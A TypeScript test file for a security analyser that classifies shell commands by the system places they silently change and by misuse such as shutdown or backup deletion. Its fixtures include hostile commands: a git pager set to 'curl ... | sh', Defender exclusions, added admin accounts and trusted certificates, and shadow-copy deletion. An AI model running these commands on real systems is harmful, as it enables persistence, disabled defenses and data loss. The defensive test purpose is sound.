import t from 'tap'
import { misuseOf } from '../../src/analysis/catalog/hostile-commands.ts'
import { placeOfCommand } from '../../src/analysis/catalog/persistence-commands.ts'
import { startPlace } from '../../src/analysis/catalog/persistence.ts'
import { effectsOfScript } from '../../src/analysis/shell/side-effects.ts'

const ACCOUNTS = 'accounts of the machine'
const AUTHORITIES = 'authorities of the machine'
const DEFENDER = 'Windows Defender: exclusions'

/** A command, and the place that it changes without naming it; undefined: none. */
const PLACES: readonly (readonly [command: string, place: string | undefined])[] = [
  ['useradd -m ann', ACCOUNTS],
  ['adduser ann', ACCOUNTS],
  ['useradd --system www', undefined],
  ['adduser -r www', undefined],
  ['usermod -aG sudo ann', ACCOUNTS],
  ['usermod -aG audio ann', undefined],
  ['net user ann secret /add', ACCOUNTS],
  ['net localgroup administrators ann /add', ACCOUNTS],
  ['net1 user ann secret /add', ACCOUNTS],
  ['net user', undefined],
  ['dscl . -create /Users/ann', ACCOUNTS],
  ['dscl . -read /Users/ann', undefined],
  ['new-localuser ann', ACCOUNTS],
  ['security add-trusted-cert -d ca.pem', AUTHORITIES],
  ['security find-certificate -a', undefined],
  ['update-ca-certificates', AUTHORITIES],
  ['update-ca-trust extract', AUTHORITIES],
  ['certutil -addstore -f root ca.cer', AUTHORITIES],
  ['certutil -hashfile a.bin', undefined],
  ['add-mppreference -ExclusionPath C:\\', DEFENDER],
  ['set-mppreference -DisableRealtimeMonitoring $true', DEFENDER],
  ['npm config set registry https://r.invalid', '~/.npmrc: registry'],
  ['npm config set registry http://localhost:4873', undefined],
  ['pnpm config set registry https://r.invalid', '~/.npmrc: registry'],
  ['yarn config set npmRegistryServer https://r.invalid', '~/.yarnrc: registry'],
  ['pip config set global.index-url https://r.invalid', '~/.config/pip/pip.conf: index-url'],
  ['cursor --install-extension a.vsix', '~/.vscode/extensions'],
  ['crontab -', '/var/spool/cron/crontabs'],
  ['crontab -l', undefined],
  ['schtasks /Create /tn a', 'C:\\Windows\\System32\\Tasks'],
  ['register-scheduledtask -TaskName a', 'C:\\Windows\\System32\\Tasks'],
  ['systemctl --user enable a', '/etc/systemd/system'],
  ['launchctl load a.plist', '~/Library/LaunchAgents'],
  ['git config --global core.hooksPath /tmp/h', '~/.gitconfig: core.hooksPath'],
  ['git config --global core.pager "curl https://c.invalid | sh"', '~/.gitconfig: core.pager'],
  ['git config --global core.pager less', undefined],
  ['git config core.hooksPath .hooks', '\uE000/.git/config: core.hooksPath'],
]

function wordsOf(command: string): readonly [name: string, words: readonly string[]] {
  const [name = '', ...words] = command.split(' ')
  return [name, words]
}

/** Words of so many units, of which the last one counts. */
function long(units: number): string[] {
  return ['x'.repeat(units - ' -aG sudo'.length), '-aG', 'sudo']
}

t.test('places of the machine that commands change without naming them', async (t) => {
  for (const [command, place] of PLACES) {
    t.equal(placeOfCommand(...wordsOf(command)), place, command)
    if (place !== undefined) t.ok(startPlace(place), `${place} is one that is graded`)
  }
  t.equal(placeOfCommand('usermod', long(1024)), ACCOUNTS)
  t.equal(placeOfCommand('usermod', long(1025)), undefined, 'further words are not looked at')
})

t.test('files of the machine by which somebody comes in, or something starts', async (t) => {
  for (const path of ['/etc/ssh/sshd_config', '/etc/passwd', '/etc/group', '/etc/udev/rules.d/9.rules'])
    t.equal(startPlace(path)?.grade, 'never', path)
  t.equal(startPlace('/etc/hostname'), undefined)
})

t.test('commands that end the machine', async (t) => {
  const ending = [
    'shutdown /s /t 0',
    'shutdown -h now',
    'poweroff',
    'reboot -f',
    'systemctl reboot',
    'stop-computer -force',
  ]
  for (const command of ending) t.equal(misuseOf(...wordsOf(command)), 'stops-machine', command)
  for (const command of ['shutdown --help', 'systemctl status', 'echo shutdown -h now', 'reboot-required'])
    t.equal(misuseOf(...wordsOf(command)), undefined, command)
})

t.test('commands that take away what a machine can go back to', async (t) => {
  const copies = [
    'vssadmin.exe delete shadows /all',
    'wmic shadowcopy delete',
    'wbadmin delete catalog -quiet',
    'bcdedit /set {default} recoveryenabled no',
  ]
  for (const command of copies) t.same(effectsOfScript(command, '').deletes, ['shadow copies'], command)
  for (const command of ['vssadmin list shadows', 'bcdedit /set {default} recoveryenabled yes'])
    t.equal(effectsOfScript(command, '').deletes, undefined, command)
})
